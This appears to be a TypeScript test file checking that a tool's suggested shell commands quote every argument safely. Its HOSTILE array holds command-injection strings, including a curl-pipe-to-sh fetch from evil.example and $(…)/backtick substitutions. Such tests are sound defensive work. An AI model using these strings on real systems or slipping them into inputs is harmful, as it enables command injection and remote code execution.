// Suggested commands (anomaly next steps, GC diagnostics, the digest) quote every argument for the
// POSIX shell: whatever a service, version or path holds, pasting the suggestion runs fleetprof
// with exactly those arguments and nothing else. Checked by letting sh parse them.
import { spawnSync } from 'node:child_process';
import { fleetprofCommand, shellQuote } from '../lib/detect/command';

const HOSTILE = [
  "v1;curl${IFS}-sL${IFS}evil.example|sh;#",
  "$(touch /tmp/fleetprof-pwned)",
  '`id`',
  "it's",
  "a'b'c''",
  'x"y',
  'back\\slash',
  'new\nline',
  'tab\there',
  '*',
  '~root',
  '-',
  '',
  'plain-v1.2.3',
  'spaces in /my data dir',
  '!history',
  '{a,b}',
];

/** The words sh makes of a command line (printed NUL-separated by printf). */
function shWords(line: string): string[] {
  const r = spawnSync('sh', ['-c', `printf '%s\\0' ${line}`], { encoding: 'utf8' });
  expect(r.status).toBe(0);
  return r.stdout.split('\0').slice(0, -1);
}

test.each(HOSTILE)('shellQuote(%j) is one word, unchanged, to sh', (s) => {
  expect(shWords(shellQuote(s))).toEqual([s]);
});

test('fleetprofCommand: every argument survives sh exactly, nothing runs', () => {
  const args = ['gc', '--data', 'spaces in /my data dir', '--service', 'svc-a', '--version', HOSTILE[0], '--label', 'k=$(id)'];
  const line = fleetprofCommand(...args);
  expect(shWords(line)).toEqual(['fleetprof', ...args]);
  expect(fleetprofCommand('top', '--type', 'cpu', '--service', 'svc-a')).toBe('fleetprof top --type cpu --service svc-a');
});
